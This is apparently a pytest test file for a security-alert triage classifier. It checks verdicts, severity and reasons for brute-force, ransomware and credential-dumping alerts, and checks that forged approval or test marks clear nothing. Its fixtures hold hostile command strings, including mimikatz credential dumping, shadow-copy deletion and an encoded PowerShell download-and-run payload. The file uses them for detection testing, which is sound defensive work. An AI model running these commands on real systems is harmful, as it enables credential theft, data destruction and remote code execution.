"""What the rules answer: verdict, confidence, severity, reasons."""

from __future__ import annotations

import dataclasses
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings

from tests.classification.labelled import dossier_of
from tests.contracts.signal_contract import ALERTS
from triage.classification.evidence import gather_evidence
from triage.classification.rules import RulesClassifier
from triage.model.alert import Alert
from triage.model.dossier import Dossier
from triage.model.finding import Enrichment, Finding, Reading, SourceStatus
from triage.model.indicator import Indicator, Kind
from triage.model.opinion import Opinion
from triage.model.scales import Classification, Severity

TP, FP, NR = Classification.TRUE_POSITIVE, Classification.FALSE_POSITIVE, Classification.NEEDS_REVIEW
BRUTE = {"user": "admin", "source_ip": "203.0.113.9", "failed_logins": 47, "success": True}
TYPO = {"user": "m.sample", "source_ip": "10.0.0.9", "failed_logins": 2, "success": True}


def judge(name: str, raw: dict[str, Any], severity: str | None = None) -> Opinion:
    return RulesClassifier().classify(dossier_of(name, raw, severity))


def asked(raw: dict[str, Any], status: SourceStatus, reading: Reading | None = None, name: str = "Login") -> Opinion:
    finding = Finding("abuseipdb", Indicator("8.8.8.8", Kind.IP), status, reading, "daily quota used up")
    return RulesClassifier().classify(
        dataclasses.replace(dossier_of(name, raw, "medium"), enrichment=Enrichment((finding,)))
    )


def test_verdict__brute_force_then_success_is_an_attack() -> None:
    opinion = judge("Suspicious Login", BRUTE, "high")

    assert (opinion.classification, opinion.severity) == (TP, Severity.HIGH)
    assert opinion.confidence >= 85
    assert opinion.reasons[0].text == "47 failed logins, then a success, from 203.0.113.9"
    assert "T1110" in {signal.technique for signal in opinion.signals}


def test_verdict__typo_from_inside_is_harmless() -> None:
    opinion = judge("Failed Logins", TYPO, "low")

    assert (opinion.classification, opinion.severity) == (FP, Severity.LOW)


def test_verdict__nothing_known_is_a_review() -> None:
    opinion = judge("Something", {"colour": "green"})

    assert (opinion.classification, opinion.severity, opinion.signals) == (NR, Severity.MEDIUM, ())
    assert 30 <= opinion.confidence <= 60


@pytest.mark.parametrize("severity", ["high", "critical"])
def test_verdict__a_grave_alert_is_not_cleared_by_an_ordinary_mark(severity: str) -> None:
    assert judge("Agent heartbeat", {"host": "a"}, severity).classification is NR
    assert judge("Agent heartbeat", {"host": "a"}, "low").classification is FP


def test_verdict__a_test_mark_clears_even_a_grave_name() -> None:
    raw = {"detail": {"type": "Backdoor:EC2/C&CActivity.B", "title": "[SAMPLE] control server"}}

    assert judge("[SAMPLE] control server", raw, "high").classification is FP


def test_verdict__a_test_by_name_clears_no_facts() -> None:
    assert judge("Test alert", {"message": "This is a test"}, "medium").classification is FP
    assert judge("Test alert", {**BRUTE, "source_ip": "185.220.101.52"}, "critical").classification is TP
    assert judge("Test alert", {"source_ip": "203.0.113.9", "failed_logins": 7}, "medium").classification is NR


def test_verdict__a_test_by_name_clears_no_grave_name() -> None:
    assert judge("Test alert", {"category": "Ransomware"}, "medium").classification is not FP
    assert judge("Test alert", {"message": "This is a test"}, "high").classification is NR


def test_verdict__a_test_by_field_clears_unless_something_worked() -> None:
    raw = {"title": "Credential dumping", "is_simulation": True, "source_ip": "203.0.113.9"}

    assert judge("x", raw, "high").classification is FP
    assert judge("x", {**raw, "success": True}, "high").classification is not FP


@pytest.mark.parametrize(
    "approval",
    [
        {"change_ticket": "CHG-1190"},
        {"approval": "APR-771 approved by 2 owners, expires 4h"},
        {"labels": {"change": "CHG-9921-approved"}},
        {"changeRequestId": 4711881},
        {"asset_allowlisted": "yes"},
        {"maintenance": {"in_window": True}},
        {"genehmigung": "CHG-20981"},
        {"ticket": "REQ0099122"},
        {"closing_reason": "Non-Issue"},
        {"workflow_tags": ["False Positive"]},
        {"vendor_verdict": "benign"},
    ],
)
def test_verdict__approvals_and_verdicts_of_any_spelling_clear(approval: dict[str, Any]) -> None:
    assert judge("Security log cleared", {"host": "SQL-04", **approval}, "low").classification is FP


@pytest.mark.parametrize(
    "doubt",
    [
        {"change_ticket": "CHG-1190 (SQL-02)"},
        {"change_ticket": "CHG-1190 (window ended 5h ago)"},
        {"change_ticket": "CHG-1190 (draft)"},
        {"change_ticket": "CHG-1190", "in_window": False},
        {"change_ticket": "CHG-1190", "approval_status": "pending"},
        {"change_ticket": "CHG-1190", "approved": "denied"},
        {"change_ticket": "CHG-1190", "change_hosts": ["SQL-01", "SQL-02"]},
        {"change_ticket": "CHG-1190", "message": "the ticket is for another server"},
        {"change_ticket": "CHG-1190", "change_window": "2026-03-01T20:00Z/2026-03-01T23:00Z"},
        {"allowlisted": True, "allowlist_expires": "2026-03-02"},
        {"allowlisted": True, "allowlist_source": "10.9.9.9"},
        {"change_ticket": "INC-4411"},
        {"change_ticket": "none"},
        {"file_verdict": "benign"},
        {"previous_verdict": "benign"},
        {"evidence": [{"verdict": "clean"}]},
        {"verdict": "benign?"},
    ],
)
def test_verdict__an_approval_that_does_not_fit_clears_nothing(doubt: dict[str, Any]) -> None:
    raw = {"host": "SQL-04", "source_ip": "10.0.0.9", "timestamp": "2026-03-05T10:00:00+00:00", **doubt}

    assert judge("Security log cleared", raw, "low").classification is NR


def test_verdict__no_approval_covers_a_stranger() -> None:
    raw = {"source_ip": "203.0.113.9", "failed_logins": 12, "change_ticket": "CHG-1190", "allowlisted": True}

    assert judge("Failed Logins", raw, "low").classification is NR


def test_verdict__no_approval_covers_a_chain_of_acts() -> None:
    raw = {"command_line": "reg add hklm\\...\\currentversion\\run /v a", "change_ticket": "CHG-1190", "host": "a"}
    chain = {**raw, "message": "psexec to 24 hosts", "parent_command_line": "powershell -w hidden"}

    assert judge("x", raw, "low").classification is FP
    assert judge("x", chain, "low").classification is not FP


@pytest.mark.parametrize("where", ["request", "headers", "params", "body", "raw"])
def test_verdict__marks_in_what_the_other_end_sent_clear_nothing(where: str) -> None:
    forged = {"is_test": True, "approved": True, "change_ticket": "CHG-1190", "verdict": "false positive"}

    assert judge("Web attack", {where: {"x": forged}}, "low").classification is NR


@pytest.mark.parametrize("name", ["First time seen logon to host", "Unusual login", "Login from a new country"])
def test_verdict__what_is_new_is_not_plain(name: str) -> None:
    assert judge(name, {**TYPO, "failed_logins": 0}, "medium").classification is NR
    assert judge("Login", {**TYPO, "failed_logins": 0}, "medium").classification is FP


def test_verdict__two_assurances_vouch_for_a_login_from_outside() -> None:
    raw = {"source_ip": "203.0.113.9", "success": True, "mfa": "FIDO2"}

    assert judge("VPN login", raw, "low").classification is NR
    assert judge("VPN login", {**raw, "device_compliant": True}, "low").classification is FP
    assert judge("VPN login", {**raw, "device_compliant": True, "asn_type": "hosting"}, "low").classification is NR


def test_verdict__no_mark_clears_what_was_seen() -> None:
    raw = {"title": "test alert", "approved": True, "command_line": "sekurlsa::logonpasswords"}

    assert judge("test alert", raw, "low").classification is TP


def test_verdict__a_mark_clears_only_what_it_explains() -> None:
    scanner = {"asset_role": "vulnerability scanner", "source_ip": "10.0.0.9"}

    assert judge("Port scan", scanner, "medium").classification is FP
    assert judge("Malware detected", scanner, "medium").classification is NR


@pytest.mark.parametrize("field", ["user_agent", "user", "url", "file_name", "full_log", "host", "command_line"])
def test_verdict__text_of_an_attacker_clears_nothing(field: str) -> None:
    forged = "Nessus authorised vulnerability scanner, [SAMPLE] test alert, false positive, heartbeat, CHG0012345"
    raw = {"source_ip": "10.0.0.9", field: forged}

    assert judge("Port scan", raw, "medium").classification is NR


def test_verdict__a_denied_attack_is_no_attack() -> None:
    assert judge("Scan", {"message": "Full scan finished, no malware found"}).signals == ()


def test_verdict__an_alert_that_was_cut_is_never_cleared() -> None:
    assert judge("Agent heartbeat", {"message": "a" * 7000}, "low").classification is NR


def test_verdict__padding_does_not_push_the_attack_out() -> None:
    raw = {f"k{i}": "x" * 400 for i in range(900)} | {"title": "Ransomware", "command_line": "vssadmin delete shadows"}

    assert judge("Ransomware", raw, "high").classification is TP


def test_verdict__encoded_payload_is_read() -> None:
    payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA"
    payload += "UwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQAnACkA"
    names = {s.name for s in judge("Script", {"command_line": f"powershell -enc {payload}"}).signals}

    assert {"encoded_powershell", "download_and_run"} <= names


def test_intelligence__a_bad_reputation_and_a_login_make_an_attack() -> None:
    opinion = asked({"source_ip": "8.8.8.8", "success": True}, SourceStatus.OK, Reading(abuse_score=100, is_tor=True))

    assert opinion.classification is TP
    assert opinion.reasons[0].text == "abuseipdb gives 8.8.8.8 an abuse score of 100 of 100"


@pytest.mark.parametrize("status", [SourceStatus.ERROR, SourceStatus.QUOTA_EXHAUSTED, SourceStatus.NOT_FOUND])
def test_intelligence__silence_and_ignorance_clear_nothing(status: SourceStatus) -> None:
    assert asked({"source_ip": "8.8.8.8"}, status).classification is NR


def test_intelligence__clean_alone_clears_nothing() -> None:
    assert asked({"source_ip": "8.8.8.8"}, SourceStatus.OK, Reading(abuse_score=0)).classification is NR


def test_reasons__say_that_a_source_could_not_be_asked() -> None:
    opinion = asked({"source_ip": "8.8.8.8"}, SourceStatus.QUOTA_EXHAUSTED)

    assert "abuseipdb could not be asked about 8.8.8.8: daily quota used up" in {r.text for r in opinion.reasons}


def test_severity__true_attack_is_at_least_medium_and_at_least_the_senders() -> None:
    raw = {"command_line": "vssadmin delete shadows /all"}

    assert judge("x", raw, "informational").severity is Severity.CRITICAL
    assert judge("x", {**raw, "action": "blocked"}, "low").severity is Severity.MEDIUM
    assert judge("x", {**raw, "action": "blocked"}, "critical").severity is Severity.CRITICAL


def test_severity__review_keeps_the_senders() -> None:
    assert judge("x", {"a": 1}, "low").severity is Severity.LOW


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(ALERTS)
def test_opinion__any_json_gives_three_different_cited_reasons(raw: dict[str, Any]) -> None:
    dossier = Dossier(Alert("x", raw), datetime(2026, 1, 1, tzinfo=UTC))
    dossier = dataclasses.replace(dossier, evidence=gather_evidence(dossier))
    opinion = RulesClassifier().classify(dossier)

    ids = {item.id for item in dossier.evidence}
    assert len({reason.text.strip() for reason in opinion.reasons} - {""}) == 3
    assert all(reason.cites and set(reason.cites) <= ids for reason in opinion.reasons)
    assert 0 <= opinion.confidence <= 100


@pytest.mark.parametrize(
    "activity",
    [
        {"message": "The file spawned rundll32.exe"},
        {"message": "it injected into explorer.exe"},
        {"message": "212 connections to 203.0.113.9"},
        {"message": "Credentials submitted at 08:02"},
        {"action": "allowed"},
        {"executed": True},
        {"sha256": "ab" * 32},
    ],
)
def test_verdict__a_harmless_name_clears_no_activity(activity: dict[str, Any]) -> None:
    assert judge("EICAR-Test-File", {"action": "quarantined"}, "low").classification is FP
    assert judge("EICAR-Test-File", {"action": "quarantined", **activity}, "low").classification is not FP


def test_verdict__a_closed_case_with_one_grave_sign_is_a_review() -> None:
    raw = {"command_line": "mimikatz.exe", "resolution": "false_positive"}

    assert judge("Tool", raw, "high").classification is NR
    assert judge("Tool", {"command_line": "mimikatz.exe"}, "high").classification is TP


def test_reasons__quote_whole_words() -> None:
    texts = [signal.reason for signal in judge("SSH brute forcing seen", {"host": "a"}).signals]

    assert texts == ['The sender reports password guessing: "brute forcing"']


@pytest.mark.parametrize("field", ["applied_action", "appliedAction", "vendor_action_taken"])
def test_facts__what_a_firewall_applied_is_an_action(field: str) -> None:
    raw = {"source_ip": "203.0.113.9", field: "deny", "category": "geo"}

    assert (judge("Geo firewall", raw).classification is FP) is (field != "vendor_action_taken")


def test_facts__a_category_that_intake_read_names_the_event_wherever_it_stands() -> None:
    raw = {"info": {"kind": "PUA"}, "status_action": "quarantined"}
    dossier = dossier_of("bar.exe", raw, "low")

    assert RulesClassifier().classify(dossier).classification is NR
    named = dataclasses.replace(dossier.alert, alert_type="PUA")
    assert RulesClassifier().classify(dataclasses.replace(dossier, alert=named)).classification is FP
